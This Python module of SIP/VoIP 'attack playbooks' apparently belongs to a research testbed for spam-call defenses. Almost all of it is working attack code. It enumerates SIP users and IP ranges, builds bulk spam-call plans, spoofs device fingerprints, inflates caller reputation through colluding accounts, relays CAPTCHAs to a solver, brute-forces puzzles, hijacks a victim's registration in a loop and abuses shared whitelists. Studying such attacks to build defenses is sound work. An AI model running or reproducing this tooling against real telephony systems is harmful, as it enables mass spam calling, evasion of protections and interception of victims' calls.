"""Attack playbooks: URI-space scans, bulk-call plan builders, device spoofing,
account partitioning, ring-tone calls, reputation pushing, challenge relaying,
and the registration race. Generators produce plans/scenarios; the engine does
the talking."""

from __future__ import annotations

import hashlib
import ipaddress
import random
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterable, Iterator

from . import defenses as dfs
from . import engine, scenario as sc, sipmsg
from .sipmsg import SipUri, UriStatus
from .transport import Addr

STALE_AFTER_S = 24 * 3600.0  # temporary URIs outlive their address for at most a day


class AttackError(Exception):
    pass


class ModeInventoryMismatch(AttackError):
    pass


class NoAccounts(AttackError):
    pass


class SameAccount(AttackError):
    pass


class IncompatibleFingerprint(AttackError):
    pass


# -- inventories ----------------------------------------------------------------


@dataclass(frozen=True)
class InventoryEntry:
    uri: SipUri
    status: UriStatus
    probed_with: str
    observed_at: float


class UriInventory:
    """Scan results; one entry per URI, later probes overwrite earlier ones."""

    def __init__(self, entries: Iterable[InventoryEntry] = ()):
        self._by_uri: dict[str, InventoryEntry] = {}
        for e in entries:
            self.add(e)

    def add(self, entry: InventoryEntry) -> None:
        self._by_uri[str(entry.uri)] = entry

    @property
    def entries(self) -> list[InventoryEntry]:
        return list(self._by_uri.values())

    def assigned(self) -> list[InventoryEntry]:
        return [e for e in self.entries if e.status.is_assigned]

    def with_status(self, status: UriStatus) -> list[InventoryEntry]:
        return [e for e in self.entries if e.status == status]

    def __len__(self) -> int:
        return len(self._by_uri)

    def to_csv(self) -> str:
        lines = [f"{e.uri},{e.status.value},{e.probed_with},{e.observed_at:.6f}" for e in self.entries]
        return "\n".join(lines) + ("\n" if lines else "")

    @classmethod
    def from_csv(cls, text: str) -> "UriInventory":
        inv = cls()
        for line in text.splitlines():
            if not line.strip():
                continue
            uri, status, probe, ts = line.split(",")
            inv.add(InventoryEntry(SipUri.parse(uri), UriStatus(status), probe, float(ts)))
        return inv


def is_stale(entry: InventoryEntry, now: float, max_age_s: float = STALE_AFTER_S) -> bool:
    return now - entry.observed_at > max_age_s


def digit_range(prefix: str, width: int) -> Iterator[str]:
    """All user names `prefix` + zero-padded counter of `width` digits."""
    for i in range(10**width):
        yield f"{prefix}{i:0{width}d}"


def ip_range(spec: str) -> list[str]:
    """"a.b.c.d-a.b.c.e" spans or CIDR blocks."""
    if "-" in spec:
        lo_s, hi_s = spec.split("-", 1)
        lo = int(ipaddress.IPv4Address(lo_s.strip()))
        hi = int(ipaddress.IPv4Address(hi_s.strip()))
        return [str(ipaddress.IPv4Address(i)) for i in range(lo, hi + 1)]
    return [str(h) for h in ipaddress.IPv4Network(spec, strict=False).hosts()]


# -- scanning --------------------------------------------------------------------


def _probe_request(method: str, target: str, caller: str, local: Addr, call_id: str) -> sipmsg.SipMessage:
    headers = [
        ("Via", f"SIP/2.0/UDP {local[0]}:{local[1]};branch=z9hG4bK-{call_id}"),
        ("Max-Forwards", "70"),
        ("From", f"<{caller}>;tag={call_id}"),
        ("To", f"<{target}>"),
        ("Call-ID", call_id),
        ("CSeq", f"1 {method}"),
        ("Content-Length", "0"),
    ]
    if method == "REGISTER":
        headers.insert(6, ("Contact", f"<{caller}>"))
    return sipmsg.request(method, target, headers=headers)


def _teardown(transport, target: str, caller: str, local: Addr, call_id: str, ringing_only: bool, dest: Addr) -> None:
    # A scan wants classification, not calls: hang up whatever the probe opened.
    method = "CANCEL" if ringing_only else "ACK"
    transport.send(sipmsg.serialize(_probe_request(method, target, caller, local, call_id)), dest)
    if not ringing_only:
        transport.send(sipmsg.serialize(_probe_request("BYE", target, caller, local, call_id)), dest)


def _probe_one(
    transport, dest: Addr, target: str, caller: str, probe: str, call_id: str, timeout_s: float, clock
) -> tuple[UriStatus, sipmsg.SipMessage | None]:
    local = getattr(transport, "addr", ("0.0.0.0", 0))
    transport.send(sipmsg.serialize(_probe_request(probe, target, caller, local, call_id)), dest)
    deadline = clock.now() + timeout_s
    while clock.now() <= deadline:
        item = transport.receive(max(deadline - clock.now(), 0.0))
        if item is None:
            break
        try:
            msg = sipmsg.parse(item[0])
        except sipmsg.SipError:
            continue
        if msg.is_request or msg.call_id != call_id:
            continue  # stale reply from an earlier probe
        status = sipmsg.classify_response(msg.status)
        if status != UriStatus.INDETERMINATE:
            if probe == "INVITE" and status == UriStatus.ASSIGNED_ONLINE:
                _teardown(transport, target, caller, local, call_id, ringing_only=msg.status == 180, dest=dest)
            return status, msg
        if msg.status >= 200:
            return UriStatus.INDETERMINATE, msg
    return UriStatus.INDETERMINATE, None


def scan_permanent(
    domain: str,
    users: Iterable[str],
    probe: str,
    transport,
    proxy: Addr,
    caller: str = "sip:scanner@example.com",
    timeout_s: float = 0.5,
    clock=None,
) -> UriInventory:
    """Walk the user-name space through the proxy and classify every URI.

    Transport failure marks the remaining candidates indeterminate and returns
    the partial inventory.
    """
    if probe not in ("INVITE", "OPTIONS", "REGISTER"):
        raise AttackError(f"bad probe method {probe!r}")
    clock = clock or _TransportClock(transport)
    inv = UriInventory()
    broke = False
    for i, user in enumerate(users):
        uri = SipUri(user=user, host=domain)
        if broke:
            inv.add(InventoryEntry(uri, UriStatus.INDETERMINATE, probe, clock.now()))
            continue
        try:
            status, _ = _probe_one(transport, proxy, str(uri), caller, probe, f"scan-{i}-{user}", timeout_s, clock)
        except OSError:
            broke = True
            status = UriStatus.INDETERMINATE
        inv.add(InventoryEntry(uri, status, probe, clock.now()))
    return inv


def scan_temporary(
    ips: Iterable[str] | str,
    port: int,
    probe: str,
    transport,
    caller: str = "sip:anyone@anywhere.invalid",
    timeout_s: float = 0.25,
    clock=None,
) -> UriInventory:
    """Probe endpoints directly by IP, no proxy and no account needed."""
    if probe not in ("INVITE", "OPTIONS"):
        raise AttackError(f"bad probe method {probe!r}")
    if isinstance(ips, str):
        ips = ip_range(ips)
    clock = clock or _TransportClock(transport)
    inv = UriInventory()
    for i, ip in enumerate(ips):
        target = f"sip:user@{ip}:{port}"
        status, reply = _probe_one(transport, (ip, port), target, caller, probe, f"tscan-{i}", timeout_s, clock)
        user = "unknown"
        if reply is not None:
            contact = reply.header("Contact")
            if contact:
                try:
                    user = SipUri.parse(contact).user or "unknown"
                except sipmsg.DomainError:
                    pass
        inv.add(InventoryEntry(SipUri(user=user, host=ip, port=port), status, probe, clock.now()))
    return inv


class _TransportClock:
    """Fallback clock for transports that do not carry one (UDP)."""

    def __init__(self, transport):
        self._net = getattr(transport, "_net", None)

    def now(self) -> float:
        if self._net is not None:
            return self._net.clock.now()
        import time

        return time.monotonic()


# -- bulk SPIT plans -----------------------------------------------------------------


@dataclass(frozen=True)
class ViaProxy:
    proxy: Addr


@dataclass(frozen=True)
class DirectIp:
    port: int = 5060


def build_spit_plan(
    inventory: UriInventory,
    mode: ViaProxy | DirectIp,
    scenario: sc.Scenario,
    templates: sc.TemplateStore,
    rate: float,
    caller_source: engine.Source,
    local: Addr,
    domain: str = "example.com",
    max_calls: int | None = None,
) -> engine.ShootPlan:
    """Turn scan results into a shoot plan; proxy mode needs an account, direct
    mode addresses each endpoint itself and takes any caller identity."""
    assigned = inventory.assigned()
    if isinstance(mode, ViaProxy):
        if caller_source is None or (isinstance(caller_source, engine.Fixed) and not caller_source.value):
            raise ModeInventoryMismatch("proxy mode needs at least one valid account")
        usable = [e for e in assigned if not e.uri.is_temporary]
        if assigned and not usable:
            raise ModeInventoryMismatch("proxy mode needs permanent (domain-hosted) URIs")
        rows = tuple((e.uri.user,) for e in usable)
        remote = mode.proxy
    else:
        usable = [e for e in assigned if e.uri.is_temporary]
        if assigned and not usable:
            raise ModeInventoryMismatch("direct mode needs temporary (IP-hosted) URIs")
        rows = tuple((e.uri.user, f"{e.uri.host}:{e.uri.port or mode.port}") for e in usable)
        remote = ("0.0.0.0", mode.port)
    calls = len(rows) if max_calls is None else max_calls
    return engine.ShootPlan(
        entries=[engine.ShootEntry(scenario=scenario, rate=rate, max_calls=max(calls, 1))],
        remote=remote,
        local=local,
        templates=templates,
        caller_source=caller_source,
        target_source=engine.Rows(rows),
        domain=domain,
    )


# -- device spoofing ------------------------------------------------------------------

SEMANTIC_HEADERS = ("via", "from", "to", "call-id", "cseq")

_DEFAULT_HEADER_LINES = {
    "via": "Via: SIP/2.0/UDP [local_ip]:[local_port];branch=z9hG4bK-[call_id]-[cseq]",
    "from": "From: [field0] <sip:[field1]@[domain]>;tag=[call_id]",
    "to": "To: <sip:[target_user]@[domain]>",
    "call-id": "Call-ID: [call_id]",
    "cseq": "CSeq: [cseq] INVITE",
    "max-forwards": "Max-Forwards: 70",
    "contact": "Contact: <sip:[field1]@[local_ip]:[local_port]>",
    "user-agent": "User-Agent: {label}",
    "allow": "Allow: INVITE, ACK, CANCEL, BYE, OPTIONS",
    "supported": "Supported: replaces",
    "accept": "Accept: application/sdp",
    "expires": "Expires: 3600",
    "content-length": "Content-Length: 0",
}


@dataclass(frozen=True)
class BehaviorProfile:
    """Scripted probe answers cloned from one device's rows; None means stay silent."""

    device_label: str
    replies: dict[str, tuple[int, dict[str, str]] | None]

    @classmethod
    def from_device(cls, device: dfs.DeviceRecord) -> "BehaviorProfile":
        replies: dict[str, tuple[int, dict[str, str]] | None] = {}
        for probe_class, row in device.behavior.items():
            if row.status == dfs.TIMEOUT_SYMBOL:
                replies[probe_class] = None
            else:
                replies[probe_class] = (int(row.status), dict(row.headers))
        return cls(device_label=device.label, replies=replies)


def rewrite_template_layout(
    template: sc.MessageTemplate, fingerprint: sipmsg.HeaderFingerprint, label: str = ""
) -> sc.MessageTemplate:
    """Reorder/add/drop header lines so the expanded message fingerprints as the device."""
    for needed in SEMANTIC_HEADERS:
        if needed not in fingerprint.names:
            raise IncompatibleFingerprint(f"fingerprint lacks {needed}")
    lines = template.body.replace("\r\n", "\n").split("\n")
    start = lines[0]
    body_index = len(lines)
    header_lines: dict[str, list[str]] = {}
    for i, line in enumerate(lines[1:], start=1):
        if line == "":
            body_index = i
            break
        name = line.split(":", 1)[0].strip().lower()
        header_lines.setdefault(name, []).append(line)
    body = "\n".join(lines[body_index:])
    out = [start]
    for name in fingerprint.names:
        stash = header_lines.get(name)
        if stash:
            out.append(stash.pop(0))
        else:
            default = _DEFAULT_HEADER_LINES.get(name, f"{name.title()}: sxsm")
            out.append(default.format(label=label or "sxsm"))
    text = "\n".join(out) + "\n" + body
    return sc.MessageTemplate(template.set_name, template.template_name, text)


def _template_method(template: sc.MessageTemplate) -> str:
    first = template.body.lstrip().split("\n", 1)[0]
    return first.split(" ", 1)[0]


def spoof_device(
    scenario_in: sc.Scenario,
    templates: sc.TemplateStore,
    fingerprint: sipmsg.HeaderFingerprint,
    profile: BehaviorProfile,
    method: str = "INVITE",
    probe_wait_ms: int = 300,
) -> tuple[sc.Scenario, sc.TemplateStore]:
    """Make the scenario look and behave like the fingerprinted device.

    Send templates of the fingerprinted method are re-laid-out; probe-answer
    branches are woven in after the first send so active-fingerprint OPTIONS
    probes (compliant first, then malformed) get the device's scripted replies.
    """
    out_store = sc.TemplateStore()
    set_name = scenario_in.set_name
    for t in templates.templates():
        if t.set_name == set_name and _template_method(t) == method:
            out_store.add(rewrite_template_layout(t, fingerprint, label=profile.device_label))
        else:
            out_store.add(t)
    steps = list(scenario_in.steps)
    first_send = next((i for i, s in enumerate(steps) if isinstance(s, sc.Send)), None)
    if first_send is None:
        return sc.Scenario(scenario_in.name, set_name, tuple(steps)), out_store

    ok_reply = profile.replies.get("compliant")
    bad_reply = profile.replies.get("malformed")
    for probe_class, reply in (("compliant", ok_reply), ("malformed", bad_reply)):
        if reply is None:
            continue
        status, headers = reply
        extra = "".join(f"{k}: {v}\n" for k, v in headers.items())
        out_store.add(
            sc.MessageTemplate(
                set_name,
                f"__probe_{probe_class}",
                f"SIP/2.0 {status} {'OK' if status < 300 else 'Probe'}\n"
                "Via: [recv_via]\n"
                "From: [recv_from]\n"
                "To: [recv_to]\n"
                "Call-ID: [call_id]\n"
                "CSeq: [recv_cseq]\n"
                f"{extra}Content-Length: 0\n",
            )
        )

    rest = steps[first_send + 1 :]
    probe_section: list[sc.Step] = [sc.Label("__spoof_probe")]
    if ok_reply is not None:
        probe_section.append(sc.Send(template="__probe_compliant"))
    probe_section.append(sc.Recv(method="OPTIONS", valid="lax", jump="__spoof_bad", timeout_ms=2000))
    probe_section.append(sc.Stop(intent="aborted"))
    probe_section.append(sc.Label("__spoof_bad"))
    if bad_reply is not None:
        probe_section.append(sc.Send(template="__probe_malformed"))
    # The rest of the call, replayed for the probed path; labels stay with the
    # original copy so jumps from either path land there.
    rest_copy = [s for s in rest if not isinstance(s, sc.Label)]

    new_steps = (
        steps[: first_send + 1]
        + [sc.Recv(method="OPTIONS", valid="strict", jump="__spoof_probe", timeout_ms=probe_wait_ms)]
        + rest
        + probe_section
        + rest_copy
    )
    spoofed = sc.Scenario(scenario_in.name + "_spoofed", set_name, tuple(new_steps))
    spoofed.validate()
    return spoofed, out_store


# -- account switching ------------------------------------------------------------------


@dataclass(frozen=True)
class AccountPartition:
    assignments: dict[str, tuple[str, ...]]  # account uri -> its target group

    def group_sizes(self) -> list[int]:
        return [len(g) for g in self.assignments.values()]


def partition_accounts(targets: Iterable[str], accounts: Iterable[str]) -> AccountPartition:
    """Round-robin targets over accounts; sizes end up within one of each other."""
    accounts = list(accounts)
    if not accounts:
        raise NoAccounts("need at least one account")
    groups: dict[str, list[str]] = {a: [] for a in accounts}
    for i, target in enumerate(targets):
        groups[accounts[i % len(accounts)]].append(target)
    return AccountPartition(assignments={a: tuple(g) for a, g in groups.items()})


# -- ring-tone calls ---------------------------------------------------------------------


def ringtone_spit_scenario(alert_url: str, set_name: str = "ringtone") -> tuple[sc.Scenario, sc.TemplateStore]:
    """Ring the phone via Alert-Info and hang up the moment it rings; an instant
    answer (no 180 seen) is torn down with ACK+BYE instead."""
    store = sc.TemplateStore()
    store.add(
        sc.MessageTemplate(
            set_name,
            "rt_invite",
            "INVITE sip:[target_user]@[remote_ip]:[remote_port] SIP/2.0\n"
            "Via: SIP/2.0/UDP [local_ip]:[local_port];branch=z9hG4bK-[call_id]\n"
            "Max-Forwards: 70\n"
            "From: [field0] <sip:[field1]@[domain]>;tag=[call_id]\n"
            "To: <sip:[target_user]@[domain]>\n"
            "Call-ID: [call_id]\n"
            "CSeq: [cseq] INVITE\n"
            f"Alert-Info: <{alert_url}>\n"
            "Contact: <sip:[field1]@[local_ip]:[local_port]>\n"
            "Content-Length: 0\n",
        )
    )
    for name, method in (("rt_ack", "ACK"), ("rt_bye", "BYE"), ("rt_cancel", "CANCEL")):
        store.add(
            sc.MessageTemplate(
                set_name,
                name,
                f"{method} sip:[target_user]@[remote_ip]:[remote_port] SIP/2.0\n"
                "Via: SIP/2.0/UDP [local_ip]:[local_port];branch=z9hG4bK-[call_id]-[cseq]\n"
                "Max-Forwards: 70\n"
                "From: [field0] <sip:[field1]@[domain]>;tag=[call_id]\n"
                "To: <sip:[target_user]@[domain]>\n"
                "Call-ID: [call_id]\n"
                f"CSeq: [cseq] {method}\n"
                "Content-Length: 0\n",
            )
        )
    scenario = sc.Scenario(
        name="ringtone_spit",
        set_name=set_name,
        steps=(
            sc.Send(template="rt_invite"),
            sc.Recv(status="180", jump="ring", timeout_ms=1500),
            sc.Recv(status="200", timeout_ms=4000),
            sc.Send(template="rt_ack"),
            sc.Send(template="rt_bye"),
            sc.Recv(status="200", timeout_ms=4000),
            sc.Stop(intent="success"),
            sc.Label("ring"),
            sc.Send(template="rt_cancel"),
            sc.Stop(intent="success"),
        ),
    )
    scenario.validate()
    return scenario, store


# -- reputation pushing -----------------------------------------------------------------


@dataclass(frozen=True)
class PushKit:
    caller_scenario: sc.Scenario
    receiver_scenario: sc.Scenario
    templates: sc.TemplateStore
    receiver_rows: tuple[tuple[str, str], ...]  # (display, user) rows for the receiver registrations
    target_rows: tuple[tuple[str], ...]  # callee users the boosted account dials


def reputation_push(
    accounts: list[str],
    boosted: str,
    feedback_header: str = dfs.FEEDBACK_HEADER_DEFAULT,
    value: float = 1.0,
    hold_ms: int = 15000,
    set_name: str = "push",
) -> PushKit:
    """Colluding receivers answer the boosted account's calls and grade them in the BYE.

    Run the receiver scenario in a second engine instance (register entry, then
    the UAS entry); combine with partition_accounts to spread receivers.
    """
    if boosted in accounts:
        raise SameAccount("boosted identity must differ from the receiving accounts")
    if not accounts:
        raise NoAccounts("need receiver accounts")
    store = sc.TemplateStore()
    store.add(
        sc.MessageTemplate(
            set_name,
            "push_invite",
            "INVITE sip:[target_user]@[remote_ip]:[remote_port] SIP/2.0\n"
            "Via: SIP/2.0/UDP [local_ip]:[local_port];branch=z9hG4bK-[call_id]\n"
            "Max-Forwards: 70\n"
            "From: [field0] <sip:[field1]@[domain]>;tag=[call_id]\n"
            "To: <sip:[target_user]@[domain]>\n"
            "Call-ID: [call_id]\n"
            "CSeq: [cseq] INVITE\n"
            "Contact: <sip:[field1]@[local_ip]:[local_port]>\n"
            "Content-Length: 0\n",
        )
    )
    store.add(
        sc.MessageTemplate(
            set_name,
            "push_ack",
            "ACK sip:[target_user]@[remote_ip]:[remote_port] SIP/2.0\n"
            "Via: SIP/2.0/UDP [local_ip]:[local_port];branch=z9hG4bK-[call_id]-[cseq]\n"
            "Max-Forwards: 70\n"
            "From: [field0] <sip:[field1]@[domain]>;tag=[call_id]\n"
            "To: [recv_to]\n"
            "Call-ID: [call_id]\n"
            "CSeq: [cseq] ACK\n"
            "Content-Length: 0\n",
        )
    )
    store.add(
        sc.MessageTemplate(
            set_name,
            "push_200",
            "SIP/2.0 200 OK\n"
            "Via: [recv_via]\n"
            "From: [recv_from]\n"
            "To: [recv_to]\n"
            "Call-ID: [call_id]\n"
            "CSeq: [recv_cseq]\n"
            "Content-Length: 0\n",
        )
    )
    store.add(
        sc.MessageTemplate(
            set_name,
            "push_register",
            "REGISTER sip:[domain] SIP/2.0\n"
            "Via: SIP/2.0/UDP [local_ip]:[local_port];branch=z9hG4bK-[call_id]\n"
            "Max-Forwards: 70\n"
            "From: <sip:[field1]@[domain]>;tag=[call_id]\n"
            "To: <sip:[field1]@[domain]>\n"
            "Call-ID: [call_id]\n"
            "CSeq: [cseq] REGISTER\n"
            "Contact: <sip:[field1]@[local_ip]:[local_port]>\n"
            "Content-Length: 0\n",
        )
    )
    store.add(
        sc.MessageTemplate(
            set_name,
            "push_uas_ok",
            "SIP/2.0 200 OK\n"
            "Via: [recv_via]\n"
            "From: [recv_from]\n"
            "To: [recv_to];tag=uas-[call_id]\n"
            "Call-ID: [call_id]\n"
            "CSeq: [recv_cseq]\n"
            "Contact: <sip:[field1]@[local_ip]:[local_port]>\n"
            "Content-Length: 0\n",
        )
    )
    feedback_value = f"+{value:g}" if value >= 0 else f"{value:g}"
    store.add(
        sc.MessageTemplate(
            set_name,
            "push_bye",
            "BYE [recv_from_uri] SIP/2.0\n"
            "Via: SIP/2.0/UDP [local_ip]:[local_port];branch=z9hG4bK-[call_id]-bye\n"
            "Max-Forwards: 70\n"
            "From: [recv_to]\n"
            "To: [recv_from]\n"
            "Call-ID: [call_id]\n"
            "CSeq: [cseq] BYE\n"
            f"{feedback_header}: {feedback_value}\n"
            "Content-Length: 0\n",
        )
    )
    caller = sc.Scenario(
        name="push_caller",
        set_name=set_name,
        steps=(
            sc.Send(template="push_invite"),
            sc.Recv(status="200", timeout_ms=8000),
            sc.Send(template="push_ack"),
            sc.Recv(method="BYE", timeout_ms=60000),
            sc.Send(template="push_200"),
            sc.Stop(intent="success"),
        ),
    )
    receiver = sc.Scenario(
        name="push_receiver",
        set_name=set_name,
        steps=(
            sc.Recv(method="INVITE", timeout_ms=120000),
            sc.Send(template="push_uas_ok"),
            sc.Recv(method="ACK", timeout_ms=8000),
            sc.Pause(ms=hold_ms),
            sc.Send(template="push_bye"),
            sc.Recv(status="200", timeout_ms=8000),
            sc.Stop(intent="success"),
        ),
    )
    caller.validate()
    receiver.validate()
    receiver_users = [SipUri.parse(a).user for a in accounts]
    return PushKit(
        caller_scenario=caller,
        receiver_scenario=receiver,
        templates=store,
        receiver_rows=tuple((u, u) for u in receiver_users),
        target_rows=tuple((u,) for u in receiver_users),
    )


def register_scenario(set_name: str = "push") -> sc.Scenario:
    """One REGISTER per call; point the caller CSV at the accounts to bind."""
    s = sc.Scenario(
        name="register_accounts",
        set_name=set_name,
        steps=(
            sc.Send(template="push_register"),
            sc.Recv(status="2xx", timeout_ms=4000),
            sc.Stop(intent="success"),
        ),
    )
    s.validate()
    return s


# -- challenge relay (3PCC) ----------------------------------------------------------------


def captcha_relay(
    victim_user: str, solver: Addr, set_name: str = "relay"
) -> tuple[sc.Scenario, sc.TemplateStore]:
    """Call the victim; when the gate answers with a challenge, call the solver,
    hand the challenge over with REFER, and wait for the gate to forward the
    original call once the solver answers it. No challenge means a plain call."""
    store = sc.TemplateStore()
    store.add(
        sc.MessageTemplate(
            set_name,
            "rc_invite",
            "INVITE sip:[target_user]@[remote_ip]:[remote_port] SIP/2.0\n"
            "Via: SIP/2.0/UDP [local_ip]:[local_port];branch=z9hG4bK-[call_id]\n"
            "Max-Forwards: 70\n"
            "From: [field0] <sip:[field1]@[domain]>;tag=[call_id]\n"
            "To: <sip:[target_user]@[domain]>\n"
            "Call-ID: [call_id]\n"
            "CSeq: [cseq] INVITE\n"
            "Contact: <sip:[field1]@[local_ip]:[local_port]>\n"
            "Content-Length: 0\n",
        )
    )
    solver_host, solver_port = solver
    store.add(
        sc.MessageTemplate(
            set_name,
            "rc_solver_invite",
            f"INVITE sip:solver@{solver_host}:{solver_port} SIP/2.0\n"
            "Via: SIP/2.0/UDP [local_ip]:[local_port];branch=z9hG4bK-[call_id]-s\n"
            "Max-Forwards: 70\n"
            "From: <sip:[field1]@[domain]>;tag=[call_id]-s\n"
            f"To: <sip:solver@{solver_host}>\n"
            "Call-ID: [call_id]\n"
            "CSeq: [cseq] INVITE\n"
            "X-Challenge-Id: [challenge_id]\n"
            "X-Relay-Gate: [remote_ip]:[remote_port]\n"
            "Content-Type: text/plain\n"
            "\n"
            "[challenge_body]",
        )
    )
    store.add(
        sc.MessageTemplate(
            set_name,
            "rc_refer",
            f"REFER sip:solver@{solver_host}:{solver_port} SIP/2.0\n"
            "Via: SIP/2.0/UDP [local_ip]:[local_port];branch=z9hG4bK-[call_id]-r\n"
            "Max-Forwards: 70\n"
            "From: <sip:[field1]@[domain]>;tag=[call_id]-s\n"
            f"To: <sip:solver@{solver_host}>\n"
            "Call-ID: [call_id]\n"
            "CSeq: [cseq] REFER\n"
            "Refer-To: <sip:gate@[remote_ip]:[remote_port]>\n"
            "X-Challenge-Id: [challenge_id]\n"
            "Content-Length: 0\n",
        )
    )
    store.add(
        sc.MessageTemplate(
            set_name,
            "rc_ack",
            "ACK sip:[target_user]@[remote_ip]:[remote_port] SIP/2.0\n"
            "Via: SIP/2.0/UDP [local_ip]:[local_port];branch=z9hG4bK-[call_id]-[cseq]\n"
            "Max-Forwards: 70\n"
            "From: [field0] <sip:[field1]@[domain]>;tag=[call_id]\n"
            "To: [recv_to]\n"
            "Call-ID: [call_id]\n"
            "CSeq: [cseq] ACK\n"
            "Content-Length: 0\n",
        )
    )
    scenario = sc.Scenario(
        name="captcha_relay",
        set_name=set_name,
        steps=(
            sc.Send(template="rc_invite"),
            sc.Recv(status="183", jump="challenged", timeout_ms=500),
            sc.Recv(status="200", timeout_ms=4000),
            sc.Send(template="rc_ack"),
            sc.Stop(intent="success"),
            sc.Label("challenged"),
            sc.Send(template="rc_solver_invite", to=f"{solver_host}:{solver_port}"),
            sc.Recv(status="200", timeout_ms=4000),
            sc.Send(template="rc_refer", to=f"{solver_host}:{solver_port}"),
            sc.Recv(status="202", timeout_ms=4000),
            sc.Recv(status="200", timeout_ms=8000),
            sc.Send(template="rc_ack"),
            sc.Stop(intent="success"),
        ),
    )
    scenario.validate()
    return scenario, store


class SolverEndpoint:
    """The hired human (or the attacker's CPU): answers relayed challenges.

    On INVITE it stores the embedded challenge; on REFER it answers the gate
    named in Refer-To with an INFO carrying the solved digits or a brute-forced
    puzzle pre-image.
    """

    def __init__(self, rng: random.Random | None = None):
        self.handle = None
        self.rng = rng or random.Random(7)
        self.solved = 0
        self._pending: dict[str, dict[str, str]] = {}  # call id -> challenge fields

    def bind(self, handle) -> None:
        self.handle = handle

    def on_datagram(self, data: bytes, src: Addr) -> None:
        try:
            msg = sipmsg.parse(data)
        except sipmsg.SipError:
            return
        if not msg.is_request:
            return
        if msg.method == "INVITE":
            fields = dfs.body_fields(msg.body)
            fields["challenge_id"] = msg.header("X-Challenge-Id") or ""
            fields["gate"] = msg.header("X-Relay-Gate") or ""
            self._pending[msg.call_id or ""] = fields
            self._reply(msg, 200, "OK", src)
        elif msg.method == "REFER":
            self._reply(msg, 202, "Accepted", src)
            fields = self._pending.get(msg.call_id or "", {})
            refer_to = msg.header("Refer-To") or ""
            gate_addr = self._gate_addr(refer_to, fields.get("gate", ""))
            if gate_addr is None:
                return
            answer = self._solve(fields)
            if answer is None:
                return
            key, solution = answer
            info = sipmsg.request(
                "INFO",
                f"sip:gate@{gate_addr[0]}:{gate_addr[1]}",
                headers=[
                    ("Via", f"SIP/2.0/UDP solver;branch=z9hG4bK-solve-{self.solved}"),
                    ("From", "<sip:solver@solver.invalid>;tag=s"),
                    ("To", f"<sip:gate@{gate_addr[0]}>"),
                    ("Call-ID", msg.call_id or ""),
                    ("CSeq", "1 INFO"),
                    ("X-Challenge-Id", msg.header("X-Challenge-Id") or fields.get("challenge_id", "")),
                ],
                body=f"{key}: {solution}\n".encode(),
            )
            self.handle.send(sipmsg.serialize(info), gate_addr)
            self.solved += 1
        elif msg.method in ("ACK", "BYE"):
            if msg.method == "BYE":
                self._reply(msg, 200, "OK", src)
        else:
            self._reply(msg, 501, "Not Implemented", src)

    def _solve(self, fields: dict[str, str]) -> tuple[str, str] | None:
        if "digits" in fields:
            return "answer", fields["digits"]
        if "image" in fields and "bits" in fields:
            preimage, _ = solve_puzzle(int(fields["image"]), int(fields["bits"]), rng=self.rng)
            return "preimage", preimage.hex()
        return None

    @staticmethod
    def _gate_addr(refer_to: str, fallback: str) -> Addr | None:
        for source in (refer_to, fallback):
            if not source:
                continue
            try:
                uri = SipUri.parse(source)
                if uri.port:
                    return (uri.host, uri.port)
            except sipmsg.DomainError:
                pass
            if ":" in source and "<" not in source:
                host, port = source.rsplit(":", 1)
                if port.isdigit():
                    return (host, int(port))
        return None

    def _reply(self, req: sipmsg.SipMessage, status: int, reason: str, dst: Addr) -> None:
        headers = [(n, v) for n in ("Via", "From", "To", "Call-ID", "CSeq") if (v := req.header(n)) is not None]
        self.handle.send(sipmsg.serialize(sipmsg.response(status, reason, headers)), dst)



def solve_puzzle(image: int, bits: int, rng: random.Random | None = None) -> tuple[bytes, int]:
    """Brute-force a pre-image whose truncated hash equals the image; returns
    (pre-image, trials). Expected trials ≈ 2^bits."""
    rng = rng or random.Random()
    start = rng.getrandbits(63)
    trials = 0
    while True:
        trials += 1
        candidate = (start + trials).to_bytes(9, "big")
        digest = hashlib.sha1(candidate).digest()
        if int.from_bytes(digest, "big") >> (160 - bits) == image:
            return candidate, trials


# -- registration race -----------------------------------------------------------------------


def registration_race(
    target_user: str, attacker_contact: str, interval_s: float, domain: str = "example.com", set_name: str = "hijack"
) -> tuple[sc.Scenario, sc.TemplateStore]:
    """Re-bind the victim's registration to the attacker every `interval_s`
    seconds, looping until the engine stops the run (exit 97)."""
    if interval_s <= 0:
        raise AttackError("interval must be > 0")
    store = sc.TemplateStore()
    store.add(
        sc.MessageTemplate(
            set_name,
            "hijack_register",
            "REGISTER sip:[domain] SIP/2.0\n"
            "Via: SIP/2.0/UDP [local_ip]:[local_port];branch=z9hG4bK-[call_id]-[cseq]\n"
            "Max-Forwards: 70\n"
            f"From: <sip:{target_user}@[domain]>;tag=[call_id]\n"
            f"To: <sip:{target_user}@[domain]>\n"
            "Call-ID: [call_id]\n"
            "CSeq: [cseq] REGISTER\n"
            f"Contact: <sip:{target_user}@{attacker_contact}>\n"
            "Content-Length: 0\n",
        )
    )
    scenario = sc.Scenario(
        name="registration_race",
        set_name=set_name,
        steps=(
            sc.Label("start"),
            sc.Send(template="hijack_register"),
            sc.Pause(ms=int(interval_s * 1000)),
            sc.Recv(status="2xx", jump="start", timeout_ms=2000),
            sc.Stop(intent="aborted"),
        ),
    )
    scenario.validate()
    return scenario, store


def binding_fraction(
    history: list[tuple[float, str, str]], user: str, contact_substr: str, t0: float, t1: float
) -> float:
    """Fraction of [t0, t1) the registrar's current binding for `user` pointed
    at a contact containing `contact_substr` (the race's success measure)."""
    if t1 <= t0:
        return 0.0
    changes = sorted((t, c) for t, u, c in history if u == user and t < t1)
    held = 0.0
    current: str | None = None
    last_t = t0
    for t, contact in changes:
        if t <= t0:
            current = contact
            continue
        if current is not None and contact_substr in current:
            held += t - last_t
        last_t = t
        current = contact
    if current is not None and contact_substr in current:
        held += t1 - last_t
    return held / (t1 - t0)


def import_whitelist(lists: dfs.ListStore, attacker: str, victim: str) -> set[str]:
    """Shared-white-list abuse: list the victim yourself, then read their list."""
    lists.add_white(attacker, victim)
    return lists.export_whitelist(attacker, victim)
